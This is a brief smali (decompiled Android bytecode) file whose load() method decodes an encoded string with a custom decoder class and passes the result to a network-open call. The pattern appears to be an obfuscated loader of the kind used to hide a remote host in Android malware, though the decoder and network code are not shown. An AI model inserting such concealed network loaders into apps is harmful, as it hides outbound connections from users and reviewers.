.class public Lcr/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "\u005cVT\u005cL.XZKT)G_EIIQDOP"
    invoke-static {v0}, Lcr/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcr/Net;->open(Ljava/lang/String;)V
    return-void
.end method

